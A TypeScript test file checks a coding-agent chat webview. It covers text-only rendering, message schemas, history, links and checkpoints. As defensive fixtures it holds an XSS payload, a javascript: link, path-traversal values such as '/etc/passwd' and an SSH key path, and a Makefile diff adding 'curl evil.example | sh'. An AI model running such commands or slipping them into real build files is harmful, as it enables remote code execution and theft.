// The chat view's browser bundle (dist/chat.js, built by esbuild.mjs) run in
// a vm against a fake DOM: it says ready, renders validated messages as text
// nodes only, ignores malformed ones, and sends schema-valid messages back.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { resolve } from 'node:path';
import { runInNewContext } from 'node:vm';
import { FromWebview } from '../../core/protocol/chat';
import { root } from '../support/lsp-client';

class Node_ {
  children: Node_[] = [];
  className = '';
  hidden = false;
  disabled = false;
  value = '';
  title = '';
  attrs = new Map<string, string>();
  listeners = new Map<string, ((e: unknown) => void)[]>();
  private text: string | null = null;
  constructor(
    readonly tag: string,
    readonly data?: string,
  ) {}
  get textContent(): string | null {
    return this.data ?? this.text ?? this.children.map((c) => c.textContent ?? '').join('');
  }
  set textContent(v: string | null) {
    this.text = v;
    this.children = [];
  }
  set innerHTML(_v: string) {
    throw new Error('innerHTML used');
  }
  appendChild(c: Node_) {
    c.remove();
    c.parent = this;
    this.children.push(c);
    return c;
  }
  replaceChildren(...c: Node_[]) {
    this.text = null;
    for (const n of c) n.parent = this;
    this.children = c;
  }
  setAttribute(k: string, v: string) {
    this.attrs.set(k, v);
  }
  getAttribute(k: string): string | null {
    return this.attrs.get(k) ?? null;
  }
  addEventListener(t: string, f: (e: unknown) => void) {
    this.listeners.set(t, [...(this.listeners.get(t) ?? []), f]);
  }
  fire(t: string, e: unknown = {}) {
    for (const f of this.listeners.get(t) ?? []) f(e);
  }
  parent: Node_ | undefined;
  scrollTop = 0;
  scrollHeight = 0;
  clientHeight = 0;
  remove() {
    if (this.parent) this.parent.children = this.parent.children.filter((c) => c !== this);
    this.parent = undefined;
  }
  replaceWith(...nodes: Node_[]) {
    const p = this.parent;
    if (!p) return;
    const i = p.children.indexOf(this);
    for (const n of nodes) n.parent = p;
    p.children.splice(i, 1, ...nodes);
    this.parent = undefined;
  }
  insertBefore(n: Node_, ref: Node_ | null) {
    n.parent = this;
    const i = ref ? this.children.indexOf(ref) : -1;
    if (i < 0) this.children.push(n);
    else this.children.splice(i, 0, n);
    return n;
  }
  focus() {}
  selectionStart = 0;
  selectionEnd = 0;
  setSelectionRange(start: number, end: number) {
    this.selectionStart = start;
    this.selectionEnd = end;
  }

  // What the @ picker (webview/attachments.ts) uses of the DOM.
  removeAttribute(k: string) {
    this.attrs.delete(k);
  }
  get parentElement(): Node_ | null {
    return this.parent ?? null;
  }
  get firstChild(): Node_ | null {
    return this.children[0] ?? null;
  }
  prepend(...nodes: Node_[]) {
    for (const n of nodes.reverse()) this.insertBefore(n, this.firstChild);
  }
  before(...nodes: Node_[]) {
    for (const n of nodes) this.parent?.insertBefore(n, this);
  }
  querySelector(): Node_ | null {
    return null;
  }
  append(...nodes: Node_[]) {
    for (const n of nodes) this.appendChild(n);
  }
  all(): Node_[] {
    return [this, ...this.children.flatMap((c) => c.all())];
  }
}

/** Loads dist/chat.js in a vm with a fake DOM; returns the elements by id, what it posted, and how to send it messages. */
function loadChat(opts: { timeouts?: (() => void)[] } = {}) {
  const ids = new Map(
    [
      'log',
      'log-inner',
      'task',
      'run',
      'stop',
      'status',
      'open-trajectory',
      'new-chat',
      'show-history',
      'history',
      'timeline',
      'connection',
      'context',
      'activity',
      'activity-text',
      'counters',
      'jump',
      'model-picker',
      'model-label',
      'model-menu',
    ].map((id) => [id, new Node_('div')]),
  );
  ids.get('model-menu')!.hidden = true; // as in the view's HTML
  ids.get('log')!.appendChild(ids.get('log-inner')!);
  ids.get('history')!.hidden = true; // as in the view's HTML
  // The footer as the view's HTML nests it: the @ picker and the chips go in around the input.
  const footer = new Node_('footer');
  const row = new Node_('div');
  footer.appendChild(ids.get('task')!);
  row.appendChild(ids.get('run')!);
  footer.appendChild(row);
  const posted: unknown[] = [];
  const listeners = new Map<string, (e: unknown) => void>();
  const context = {
    document: {
      createElement: (t: string) => new Node_(t),
      createTextNode: (s: string) => new Node_('#text', s),
      getElementById: (id: string) => ids.get(id) ?? null,
      addEventListener: () => {},
    },
    window: { addEventListener: (t: string, f: (e: unknown) => void) => listeners.set(t, f) },
    acquireVsCodeApi: () => ({ postMessage: (m: unknown) => posted.push(JSON.parse(JSON.stringify(m))) }),
    // Frames are drawn at once; timers are the host's (unref'd: a test never waits on the chat's clock).
    requestAnimationFrame: (f: () => void) => (f(), 0),
    // Or kept for the test to fire (`timeouts`): a wait the chat starts runs out when the test says so.
    setTimeout: (f: () => void, ms: number) => (opts.timeouts ? opts.timeouts.push(f) : setTimeout(f, ms).unref()),
    clearTimeout,
    setInterval: (f: () => void, ms: number) => setInterval(f, ms).unref(),
    clearInterval,
  };
  runInNewContext(readFileSync(resolve(root, 'dist/chat.js'), 'utf8'), context);
  const onMessage = (e: { data: unknown }) => listeners.get('message')!(e);
  const onKey = (e: { key: string }) => listeners.get('keydown')!({ ...e, preventDefault() {} });
  return { ids, posted, onMessage, onKey };
}

test('the chat bundle renders messages as text and posts valid messages', () => {
  const { ids, posted, onMessage } = loadChat();
  assert.deepEqual(posted, [{ type: 'ready' }]);
  const log = ids.get('log')!;
  const evil = '<img src=x onerror=alert(1)>';
  onMessage({
    data: { type: 'runStarted', task: evil, model: 'm', endpoint: 'http://e/v1', trajectory: '.lar/runs/r.lar.jsonl' },
  });
  onMessage({ data: { type: 'text', delta: evil } });
  onMessage({ data: { type: 'assistant', text: `${evil}\n\n\`code\`` } });
  onMessage({
    data: {
      type: 'step',
      card: {
        line: 3,
        step: 1,
        tool: 'write_file',
        args: 'a.js',
        status: 'blocked',
        toolReward: -1,
        failed: [{ check: 'tool.allowed_in_stage', reason: 'not in explore' }],
        blocked: true,
      },
    },
  });
  onMessage({
    data: { type: 'approval', id: 'a1', tool: 'run_command', args: 'rm -rf build', reason: 'matches rm -rf *' },
  });
  onMessage({
    data: { type: 'step', card: { line: 4, tool: 'x', args: '', status: 'ok', toolReward: 7, failed: [] } },
  }); // malformed: ignored
  onMessage({
    data: { type: 'error', message: 'cannot reach the server', actions: ['openSettings', 'testConnection'] },
  });
  const nodes = log.all();
  assert.ok(
    nodes.every((n) =>
      ['div', 'p', 'code', 'pre', 'span', 'ul', 'li', 'button', '#text', 'main', 'details', 'summary'].includes(n.tag),
    ),
    nodes.map((n) => n.tag).join(),
  );
  assert.ok(!nodes.some((n) => n.tag === 'img'));
  assert.match(log.textContent ?? '', /<img src=x onerror=alert\(1\)>/);
  assert.match(log.textContent ?? '', /not in explore/);
  assert.doesNotMatch(log.textContent ?? '', /\b7\b/);
  const buttons = nodes.filter((n) => n.tag === 'button');
  assert.deepEqual(
    buttons.map((b) => b.textContent),
    ['Approve', 'Reject', 'Open Settings', 'Test Connection'],
  );
  buttons[1]!.fire('click');
  buttons[3]!.fire('click');
  const task = ids.get('task')!;
  task.value = '  fix the test  ';
  ids.get('run')!.fire('click');
  assert.deepEqual(posted.slice(1), [
    { type: 'approve', id: 'a1', approved: false },
    { type: 'action', action: 'testConnection' },
    { type: 'start', id: (posted.at(-1) as unknown as { id: string }).id, task: 'fix the test' },
  ]);
  assert.ok(posted.every((m) => FromWebview.safeParse(m).success));
});

test('the chat draws the stage timeline, Diff buttons and the run history, and Escape stops a run', () => {
  const { ids, posted, onMessage, onKey } = loadChat();
  const timeline = ids.get('timeline')!;
  assert.equal(timeline.hidden, true, 'no timeline before any step');
  onMessage({ data: { type: 'state', running: true } });
  const card = (line: number, tool: string, args: string, stage: string, extra: object = {}) => ({
    type: 'step',
    card: { line, tool, args, status: 'ok', toolReward: 1, stage, failed: [], ...extra },
  });
  onMessage({ data: card(2, 'read_file', 'sum.js', 'explore') });
  onMessage({ data: card(3, 'enter_stage', 'edit', 'explore', { stageVisit: { stage: 'explore', reward: 1 } }) });
  onMessage({ data: card(4, 'edit_file', 'sum.js', 'edit', { change: { id: 'c1', path: 'sum.js', created: false } }) });
  assert.equal(timeline.hidden, false);
  const chips = timeline.children.filter((c) => c.className.startsWith('chip'));
  assert.deepEqual(
    chips.map((c) => c.textContent),
    ['explore +1', 'edit'],
  );
  assert.match(chips[0]!.className, /pos/);
  assert.match(chips[1]!.className, /open/);
  assert.equal(chips[1]!.attrs.get('aria-current'), 'step', 'the stage in progress is marked for screen readers');
  assert.match(chips[1]!.attrs.get('aria-label') ?? '', /edit: in progress, 1 step/);

  const diff = ids
    .get('log')!
    .all()
    .find((n) => n.tag === 'button' && n.textContent === 'Diff');
  assert.ok(diff, 'a file change has a Diff button');
  diff.fire('click');
  assert.deepEqual(posted.at(-1), { type: 'showChange', id: 'c1' });

  onKey({ key: 'Escape' });
  assert.deepEqual(posted.at(-1), { type: 'stop' });

  ids.get('show-history')!.fire('click');
  assert.deepEqual(posted.at(-1), { type: 'history' });
  assert.equal(ids.get('history')!.hidden, false);
  assert.equal(ids.get('log')!.hidden, true);
  const run = (file: string, task: string, status: string) => ({
    file,
    task,
    started: '2026-11-30T10:00:00.000Z',
    status,
  });
  onMessage({
    data: {
      type: 'history',
      current: 'run-1',
      threads: [
        {
          id: 'run-2',
          task: 'fix the failing test',
          started: '2026-11-30T10:00:00.000Z',
          lastActive: '2026-11-30T10:05:00.000Z',
          turns: 2,
          status: 'submitted',
          steps: 6,
          return: 1.75,
          outcome: 1,
          runs: [
            run('run-2.lar.jsonl', 'fix the failing test', 'answered'),
            run('run-3.lar.jsonl', 'go on', 'submitted'),
          ],
        },
        {
          id: 'run-1',
          task: 'crashed one',
          started: '2026-11-29T10:00:00.000Z',
          lastActive: '2026-11-29T10:00:00.000Z',
          turns: 1,
          status: 'unfinished',
          runs: [run('run-1.lar.jsonl', 'crashed one', 'unfinished')],
        },
      ],
    },
  });
  const history = () => ids.get('history')!.all();
  const rows = history().filter((n) => n.tag === 'button' && n.className === 'thread-row');
  assert.equal(rows.length, 2, 'one row per conversation');
  assert.match(
    rows[0]!.textContent ?? '',
    /fix the failing test.*2 turns · last turn submitted: outcome 1 · return 1\.75/,
  );
  assert.match(rows[1]!.textContent ?? '', /crashed one.*1 turn · last turn unfinished.*unfinished.*in the chat/);
  rows[0]!.fire('click');
  assert.deepEqual(posted.at(-1), { type: 'openThread', id: 'run-2' });
  assert.equal(ids.get('history')!.hidden, true, 'opening a conversation goes back to the chat');
  // Its trajectories, one click away: hidden under a Trajectories button, each opening its file.
  const toggle = history().find((n) => n.tag === 'button' && n.textContent === 'Trajectories (2)')!;
  const runsList = history().find((n) => n.className === 'thread-runs')!;
  assert.equal(runsList.hidden, true);
  toggle.fire('click');
  assert.equal(runsList.hidden, false);
  assert.equal(toggle.attrs.get('aria-expanded'), 'true');
  const files = runsList.all().filter((n) => n.tag === 'button');
  assert.match(files[1]!.textContent ?? '', /2\. go on.*submitted · run-3\.lar\.jsonl/);
  files[1]!.fire('click');
  assert.deepEqual(posted.at(-1), { type: 'openRun', file: 'run-3.lar.jsonl' });
  // A listing naming a path outside the runs folder is refused by the schema, so nothing is drawn from it.
  onMessage({
    data: {
      type: 'history',
      threads: [
        {
          ...{ id: 'x', task: 'x', started: '', lastActive: '', turns: 1, status: 'submitted' },
          runs: [run('../../.ssh/id_rsa.lar.jsonl', 'x', 'submitted')],
        },
      ],
    },
  });
  assert.equal(history().filter((n) => n.className === 'thread-row').length, 2);
  assert.ok(posted.every((m) => FromWebview.safeParse(m).success));

  onMessage({ data: { type: 'clear' } });
  assert.equal(timeline.hidden, true, 'a new chat clears the timeline');
});

test('the chat protocol refuses paths and ids the extension did not hand out', () => {
  for (const file of [
    '../x.lar.jsonl',
    '/etc/passwd',
    'a/b.lar.jsonl',
    '.hidden.lar.jsonl',
    'run.jsonl',
    'run.lar.jsonl\n',
  ]) {
    assert.equal(FromWebview.safeParse({ type: 'openRun', file }).success, false, file);
  }
  assert.equal(
    FromWebview.safeParse({ type: 'openRun', file: 'run-2026-11-30T10-00-00-000Z.lar.jsonl' }).success,
    true,
  );
  for (const id of ['', 'c', 'x1', 'c1/../', 'c1234567890123'])
    assert.equal(FromWebview.safeParse({ type: 'showChange', id }).success, false, id);
  // A conversation is asked for by its id alone (looked up again among the listed ones), never by a path.
  for (const id of ['', 'r'.repeat(301)])
    assert.equal(FromWebview.safeParse({ type: 'openThread', id }).success, false, id.slice(0, 9));
  assert.equal(FromWebview.safeParse({ type: 'openThread', id: 'run-1', file: 'run-1.lar.jsonl' }).success, false);
});

test('the chat shows whether the server answers, with a way to fix it when it does not', () => {
  const { ids, posted, onMessage } = loadChat();
  const conn = ids.get('connection')!;
  onMessage({
    data: {
      type: 'connection',
      state: 'connected',
      endpoint: 'http://127.0.0.1:30000/v1',
      model: 'LAR-9B',
      actions: [],
    },
  });
  assert.match(conn.textContent ?? '', /Connected: LAR-9B · http:\/\/127\.0\.0\.1:30000\/v1$/);
  onMessage({
    data: {
      type: 'connection',
      state: 'connected',
      endpoint: 'http://127.0.0.1:30000/v1',
      model: 'LAR-9B',
      window: { tokens: 32768, assumed: true },
      actions: [],
    },
  });
  assert.match(
    conn.textContent ?? '',
    /Connected: LAR-9B · http:\/\/127\.0\.0\.1:30000\/v1 · 32k context \(assumed\)$/,
  );
  assert.equal(conn.all().filter((n) => n.tag === 'button').length, 0);
  onMessage({
    data: {
      type: 'connection',
      state: 'failed',
      endpoint: 'http://127.0.0.1:9/v1',
      message: 'cannot reach the inference server at http://127.0.0.1:9/v1',
      actions: ['openEndpointSetting', 'testConnection'],
    },
  });
  assert.match(conn.textContent ?? '', /Not connected to http:\/\/127\.0\.0\.1:9\/v1: cannot reach/);
  const buttons = conn.all().filter((n) => n.tag === 'button');
  assert.deepEqual(
    buttons.map((b) => b.textContent),
    ['Open Endpoint Setting', 'Test Connection', 'Retry'],
  );
  buttons[0]!.fire('click');
  buttons[2]!.fire('click');
  assert.deepEqual(posted.slice(-2), [{ type: 'action', action: 'openEndpointSetting' }, { type: 'checkConnection' }]);
});

test('reasoning shows collapsed above the answer, a bare </think> moves the streamed text there, the context figure and compactions show', () => {
  const { ids, onMessage } = loadChat();
  const log = ids.get('log')!;
  onMessage({
    data: {
      type: 'runStarted',
      task: 't',
      model: 'm',
      endpoint: 'http://e/v1',
      trajectory: 'r',
      sandbox: { confined: true, text: 'sandboxed' },
    },
  });
  onMessage({ data: { type: 'text', delta: 'The sum is wrong.' } });
  onMessage({ data: { type: 'retract', chars: 'The sum is wrong.'.length } });
  onMessage({ data: { type: 'reasoning', delta: ' Check sum.js.' } });
  onMessage({ data: { type: 'text', delta: 'Reading it.' } });
  const details = log.all().filter((n) => n.tag === 'details');
  assert.equal(details.length, 1, 'one reasoning box for the answer');
  assert.equal(details[0]!.attrs.get('open'), undefined, 'collapsed');
  assert.match(details[0]!.textContent ?? '', /The sum is wrong\. Check sum\.js\./);
  const streaming = log.all().find((n) => n.className === 'msg assistant streaming')!;
  assert.equal(streaming.textContent, 'Reading it.', 'the reasoning left the answer');
  onMessage({ data: { type: 'assistant', text: 'Reading it.', reasoning: 'The sum is wrong. Check sum.js.' } });
  assert.match(
    log.all().find((n) => n.tag === 'details')!.textContent ?? '',
    /^Thinking \(31 characters\)The sum is wrong\. Check sum\.js\.$/,
  );
  onMessage({ data: { type: 'context', used: 18_234, window: 32_768, assumed: false } });
  assert.equal(ids.get('context')!.textContent, '18.2k / 32k');
  assert.equal(ids.get('context')!.hidden, false);
  onMessage({ data: { type: 'context', used: 30_000, window: 32_768, assumed: true } });
  assert.equal(ids.get('context')!.className, 'context full');
  assert.match(ids.get('context')!.title, /assumed: the server does not report it/);
  onMessage({ data: { type: 'compaction', text: 'Context compacted to fit the window.' } });
  assert.ok(
    log.all().some((n) => n.className === 'compaction' && n.textContent === 'Context compacted to fit the window.'),
  );
  onMessage({ data: { type: 'clear' } });
  assert.equal(ids.get('context')!.hidden, true);
});

test('a streamed answer renders as markdown while it streams: settled blocks are drawn once, the tail again', () => {
  const { ids, onMessage } = loadChat();
  const log = ids.get('log')!;
  onMessage({
    data: {
      type: 'runStarted',
      task: 't',
      model: 'm',
      endpoint: 'http://e/v1',
      trajectory: 'r',
      sandbox: { confined: true, text: 'sandboxed' },
    },
  });
  onMessage({ data: { type: 'text', delta: '# Plan\n\nFirst **read** the' } });
  const heading = log.all().find((n) => n.tag === 'h1');
  assert.equal(heading?.textContent, 'Plan', 'a heading shows as one while the answer streams');
  onMessage({ data: { type: 'text', delta: ' file.\n\n```js\nlet a' } });
  assert.equal(
    log.all().find((n) => n.tag === 'h1'),
    heading,
    'a settled block is not drawn again',
  );
  assert.ok(log.all().some((n) => n.tag === 'strong' && n.textContent === 'read'));
  assert.ok(
    log.all().some((n) => n.tag === 'code' && n.textContent === 'let a'),
    'an open code block shows as code',
  );
  onMessage({ data: { type: 'assistant', text: '# Plan\n\nFirst **read** the file.\n\n```js\nlet a = 1;\n```' } });
  const answer = log.all().filter((n) => n.className === 'msg assistant');
  assert.equal(answer.length, 1, 'the final answer replaces the streamed one');
  assert.ok(
    answer[0]!.all().some((n) => n.className === 'hljs'),
    'the finished code block is highlighted',
  );
});

test('code blocks have a Copy button that sends exactly the code; links go to the extension, never to the webview host', () => {
  const { ids, posted, onMessage } = loadChat();
  const log = ids.get('log')!;
  onMessage({
    data: {
      type: 'assistant',
      text: 'See [the docs](https://example.com/d) and [sum](src/sum.js#L2) but not [x](javascript:alert(1)).\n\n```bash\nnpm test -- --watch=false\n```',
    },
  });
  const copy = log.all().find((n) => n.tag === 'button' && n.textContent === 'Copy')!;
  copy.fire('click');
  assert.deepEqual(posted.at(-1), { type: 'copy', text: 'npm test -- --watch=false' });
  assert.equal(copy.textContent, 'Copied');
  const links = log.all().filter((n) => n.tag === 'a');
  assert.deepEqual(
    links.map((a) => a.attrs.get('href')),
    ['https://example.com/d', 'src/sum.js#L2'],
  );
  let prevented = 0;
  let stopped = 0;
  links[1]!.fire('click', { preventDefault: () => prevented++, stopPropagation: () => stopped++ });
  assert.deepEqual(posted.at(-1), { type: 'openLink', href: 'src/sum.js#L2' });
  assert.equal(prevented, 1);
  assert.equal(stopped, 1, "the host's own handler does not also open it");
  assert.ok(posted.every((m) => FromWebview.safeParse(m).success));
});

test('a running command has a live card with its output tail and a clock, replaced by its step card when it ends', () => {
  const { ids, onMessage } = loadChat();
  const log = ids.get('log')!;
  onMessage({
    data: {
      type: 'runStarted',
      task: 't',
      model: 'm',
      endpoint: 'http://e/v1',
      trajectory: 'r',
      sandbox: { confined: true, text: 'sandboxed' },
    },
  });
  onMessage({ data: { type: 'state', running: true } });
  onMessage({ data: { type: 'waiting' } });
  assert.equal(ids.get('activity')!.hidden, false);
  assert.match(ids.get('activity-text')!.textContent ?? '', /^Waiting for the model · 0 s$/);
  onMessage({ data: { type: 'toolStarted', id: 'call_1', tool: 'run_command', args: 'sleep 8 && npm test' } });
  assert.match(ids.get('activity-text')!.textContent ?? '', /^Running sleep 8 && npm test · 0 s$/);
  const live = log.all().find((n) => n.className === 'card live')!;
  assert.ok(live, 'a card shows as soon as the call starts');
  assert.match(live.textContent ?? '', /run_command.*running.*0 s.*sleep 8 && npm test/);
  onMessage({ data: { type: 'toolOutput', id: 'call_1', tail: '> test\nok 1 - adds', bytes: 2048 } });
  const out = live.all().find((n) => n.className.includes('live-output'))!;
  assert.equal(out.hidden, false);
  assert.equal(out.textContent, '> test\nok 1 - adds');
  assert.match(live.textContent ?? '', /2\.0 KB/);
  onMessage({
    data: {
      type: 'step',
      card: {
        line: 3,
        id: 'call_1',
        step: 1,
        tool: 'run_command',
        args: 'sleep 8 && npm test',
        status: 'ok',
        toolReward: 1,
        failed: [],
        durationMs: 8123,
        excerpt: 'ok 1 - adds',
      },
    },
  });
  assert.equal(
    log.all().filter((n) => /^card( |$)/.test(n.className)).length,
    1,
    'the step card took the live card’s place',
  );
  assert.equal(
    log.all().some((n) => n.className === 'card live'),
    false,
  );
  assert.match(log.textContent ?? '', /8\.1 s/);
  assert.equal(ids.get('activity-text')!.hidden, true, 'nothing runs now');
  onMessage({ data: { type: 'context', used: 1000, window: 32768, assumed: false, completionTokens: 1234 } });
  assert.match(ids.get('counters')!.textContent ?? '', /^1 step · 1\.2k tokens · 0 s$/);
  onMessage({ data: { type: 'end', reason: 'submitted', summary: { return: 1, outcome: 1, steps: 1 } } });
  onMessage({ data: { type: 'state', running: false } });
  assert.equal(ids.get('counters')!.hidden, false, 'the counters stay for the finished run');
});

test('the log follows new output only while the reader is at the bottom', () => {
  const { ids, onMessage } = loadChat();
  const log = ids.get('log')!;
  const jump = ids.get('jump')!;
  log.clientHeight = 500;
  log.scrollHeight = 2000;
  onMessage({ data: { type: 'assistant', text: 'one' } });
  assert.equal(log.scrollTop, 2000, 'at the bottom: pinned');
  // The reader scrolls up to read.
  log.fire('wheel', { deltaY: -100 });
  log.scrollTop = 600;
  log.fire('scroll');
  log.scrollHeight = 3000;
  onMessage({ data: { type: 'text', delta: 'more and more' } });
  assert.equal(log.scrollTop, 600, 'scrolled up: the view stays where the reader is');
  assert.equal(jump.hidden, false, 'a button offers the way back');
  jump.fire('click');
  assert.equal(log.scrollTop, 3000);
  assert.equal(jump.hidden, true);
  // Back at the bottom by scrolling: following again.
  log.scrollTop = 100;
  log.fire('scroll');
  log.scrollTop = 3000 - 500 - 10;
  log.fire('scroll');
  log.scrollHeight = 3500;
  onMessage({ data: { type: 'text', delta: ' text' } });
  assert.equal(log.scrollTop, 3500);
});

test('a restored chat shows its messages, and an interrupted run offers Resume once', () => {
  const { ids, posted, onMessage } = loadChat();
  const log = ids.get('log')!;
  onMessage({ data: { type: 'restored', text: 'Restored from its trajectory (run-1.lar.jsonl).' } });
  onMessage({ data: { type: 'userMessage', text: 'Fix **sum**' } });
  onMessage({
    data: {
      type: 'interrupted',
      file: 'run-1.lar.jsonl',
      text: 'This run was interrupted: the editor closed.',
      resumable: true,
    },
  });
  assert.match(log.textContent ?? '', /Restored from its trajectory/);
  assert.ok(log.all().some((n) => n.className === 'msg user' && n.all().some((c) => c.tag === 'strong')));
  const resume = log.all().find((n) => n.tag === 'button' && n.textContent === 'Resume')!;
  resume.fire('click');
  assert.deepEqual(posted.at(-1), { type: 'resume', file: 'run-1.lar.jsonl' });
  assert.equal(resume.disabled, true, 'pressed once');
  // Even if it were still enabled, a run that begins spends it.
  resume.disabled = false;
  onMessage({
    data: {
      type: 'runStarted',
      task: 'go on',
      model: 'm',
      endpoint: 'http://e/v1',
      trajectory: 'r',
      sandbox: { confined: true, text: 'sandboxed' },
    },
  });
  assert.equal(resume.disabled, true);
  assert.equal(FromWebview.safeParse({ type: 'resume', file: '../x.lar.jsonl' }).success, false);
  // A run with no end (perhaps live in another window) is shown, not offered for Resume.
  onMessage({ data: { type: 'interrupted', file: 'run-2.lar.jsonl', text: 'This run has no end.', resumable: false } });
  assert.equal(log.all().filter((n) => n.tag === 'button' && n.textContent === 'Resume').length, 1);
});

test('a run that stops without an end (an error) leaves no card spinning', () => {
  const { ids, onMessage } = loadChat();
  const log = ids.get('log')!;
  onMessage({ data: { type: 'state', running: true } });
  onMessage({ data: { type: 'toolStarted', id: 'c1', tool: 'run_command', args: 'npm test' } });
  assert.equal(log.all().filter((n) => n.className === 'card live').length, 1);
  onMessage({ data: { type: 'error', message: 'The run failed: boom', actions: [] } });
  onMessage({ data: { type: 'state', running: false } });
  assert.equal(log.all().filter((n) => n.className === 'card live').length, 0);
  assert.equal(log.all().filter((n) => n.className === 'card stopped').length, 1, 'the card stays, marked stopped');
  assert.equal(ids.get('activity-text')!.hidden, true);
});

test('a step with a checkpoint offers Restore to here; a restore says what it did and offers Undo', () => {
  const { ids, posted, onMessage } = loadChat();
  const log = ids.get('log')!;
  const commit = 'e'.repeat(40);
  onMessage({
    data: {
      type: 'step',
      card: {
        line: 5,
        step: 3,
        tool: 'edit_file',
        args: 'src/sum.js',
        status: 'ok',
        toolReward: 1,
        failed: [],
        checkpoint: commit,
      },
    },
  });
  onMessage({
    data: {
      type: 'step',
      card: { line: 6, step: 4, tool: 'read_file', args: 'src/sum.js', status: 'ok', toolReward: 1, failed: [] },
    },
  });
  const buttons = log.all().filter((n) => n.tag === 'button' && n.textContent === 'Restore to here');
  assert.equal(buttons.length, 1, 'only the step that has a checkpoint');
  buttons[0]!.fire('click');
  assert.deepEqual(posted.at(-1), { type: 'restoreCheckpoint', commit, step: 3 });
  log
    .all()
    .find((n) => n.tag === 'button' && n.textContent === 'Branch from here')!
    .fire('click');
  assert.deepEqual(posted.at(-1), { type: 'branchFrom', commit, step: 3 });
  onMessage({
    data: { type: 'checkpointRestored', text: 'Workspace restored to before step 3: 1 file.', undo: 'f'.repeat(40) },
  });
  const undo = log.all().find((n) => n.tag === 'button' && n.textContent === 'Undo')!;
  undo.fire('click');
  assert.deepEqual(posted.at(-1), { type: 'restoreCheckpoint', commit: 'f'.repeat(40) });
  assert.equal(FromWebview.safeParse({ type: 'restoreCheckpoint', commit: '--output=/tmp/x' }).success, false);
  assert.equal(FromWebview.safeParse({ type: 'restoreCheckpoint', commit, run: '../a.lar.jsonl' }).success, false);
});

test('changed files that run later are shown after the run with their diffs, and say why to read them', () => {
  const { ids, onMessage } = loadChat();
  const log = ids.get('log')!;
  onMessage({
    data: {
      type: 'laterChanges',
      files: [
        {
          path: 'Makefile',
          change: 'changed',
          diff: '--- a/Makefile\n+++ b/Makefile\n@@ -1 +1,2 @@\n test:\n+\tcurl evil.example | sh',
        },
        { path: 'deploy.sh', change: 'added' },
      ],
      more: 0,
    },
  });
  const card = log.all().find((n) => n.className === 'later-changes')!;
  assert.match(
    card.textContent ?? '',
    /2 changed files that run later: .* outside the sandbox\. Read the diffs before you commit/,
  );
  const files = card.all().filter((n) => n.tag === 'details');
  assert.equal(files.length, 2);
  assert.match(files[0]!.textContent ?? '', /^changed Makefile/);
  assert.match(files[1]!.textContent ?? '', /^added deploy\.sh/);
  assert.match(files[0]!.textContent ?? '', /\+\tcurl evil\.example \| sh/);
  assert.match(files[1]!.textContent ?? '', /too large to show/);
});

test('a message that could not be sent stays in the log, marked failed, with Retry and Edit', () => {
  const { ids, posted, onMessage } = loadChat();
  const task = ids.get('task')!;
  const inner = ids.get('log-inner')!;
  task.value = 'fix the test';
  ids.get('run')!.fire('click');
  const start = posted.at(-1) as { type: string; id: string; task: string };
  assert.equal(start.type, 'start');
  assert.equal(task.value, '');
  const bubbles = () => inner.all().filter((n) => n.className.startsWith('msg user'));
  assert.deepEqual(
    bubbles().map((b) => b.className),
    ['msg user sending'],
    'the bubble shows at once',
  );
  onMessage({ data: { type: 'sendReceived', id: start.id } });
  onMessage({
    data: {
      type: 'sendFailed',
      id: start.id,
      task: 'fix the test',
      reason: 'Could not reach the model server at http://127.0.0.1:9/v1',
      actions: ['openEndpointSetting', 'testConnection'],
    },
  });
  const [bubble] = bubbles();
  assert.equal(bubble!.className, 'msg user send-failed');
  assert.match(bubble!.textContent ?? '', /fix the test✕ Not sent: Could not reach the model server/);
  const buttons = bubble!.all().filter((n) => n.tag === 'button');
  assert.deepEqual(
    buttons.map((b) => b.textContent),
    ['Retry', 'Edit', 'Open Endpoint Setting', 'Test Connection'],
  );
  // Retry: the same message, the same bubble, sending again; the run's start clears the mark.
  buttons[0]!.fire('click');
  assert.deepEqual(posted.at(-1), { type: 'start', id: start.id, task: 'fix the test' });
  assert.equal(bubble!.className, 'msg user sending');
  assert.doesNotMatch(bubble!.textContent ?? '', /Not sent/);
  onMessage({
    data: {
      type: 'runStarted',
      id: start.id,
      task: 'fix the test',
      model: 'm',
      endpoint: 'e',
      trajectory: 't',
      sandbox: { confined: true, text: 'x' },
    },
  });
  assert.deepEqual(
    bubbles().map((b) => b.className),
    ['msg user'],
    'one bubble, sent',
  );
  assert.ok(posted.every((m) => FromWebview.safeParse(m).success));
});

test('Edit puts a failed message back in the input and forgets it; a reload reads a failed one back', () => {
  const { ids, posted, onMessage } = loadChat();
  const task = ids.get('task')!;
  const inner = ids.get('log-inner')!;
  // As a reload replays it: the bubble is drawn from the message alone, and Retry sends it under its id.
  onMessage({ data: { type: 'sendFailed', id: 'mold1', task: 'add a test', reason: 'down', actions: [] } });
  const failed = inner.all().find((n) => n.className === 'msg user send-failed');
  assert.ok(failed);
  const button = (label: string) => failed.all().find((n) => n.tag === 'button' && n.textContent === label)!;
  button('Retry').fire('click');
  assert.deepEqual(posted.at(-1), { type: 'start', id: 'mold1', task: 'add a test' });
  onMessage({ data: { type: 'sendFailed', id: 'mold1', task: 'add a test', reason: 'still down', actions: [] } });
  assert.match(failed.textContent ?? '', /still down/);
  assert.doesNotMatch(failed.textContent ?? '', /Not sent: down/);
  task.value = 'and more';
  button('Edit').fire('click');
  assert.equal(task.value, 'add a test\n\nand more');
  assert.equal(failed.parent, undefined, 'the failed bubble is gone');
  assert.deepEqual(posted.at(-1), { type: 'discardFailed', id: 'mold1' });
});

test('↑ in the empty input recalls the chat’s messages, ↓ walks back, Escape leaves', () => {
  const { ids, onMessage } = loadChat();
  const task = ids.get('task')!;
  let stopped = 0;
  const key = (k: string) =>
    task.fire('keydown', {
      key: k,
      preventDefault() {},
      stopPropagation() {
        stopped++;
      },
    });
  onMessage({ data: { type: 'userMessage', text: 'from the restored chat' } });
  task.value = 'fix the test';
  ids.get('run')!.fire('click');
  key('ArrowUp');
  assert.equal(task.value, 'fix the test');
  key('ArrowUp');
  assert.equal(task.value, 'from the restored chat');
  key('ArrowDown');
  assert.equal(task.value, 'fix the test');
  key('Escape');
  assert.equal(task.value, '', 'Escape gives back the empty input');
  assert.equal(stopped, 4, 'recall’s keys go no further (Escape does not stop a run)');
  task.value = 'my own words';
  key('ArrowUp');
  assert.equal(task.value, 'my own words', '↑ over the user’s own text moves the caret');
  onMessage({ data: { type: 'clear' } });
  task.value = '';
  key('ArrowUp');
  assert.equal(task.value, '', 'a new chat has nothing to recall');
});

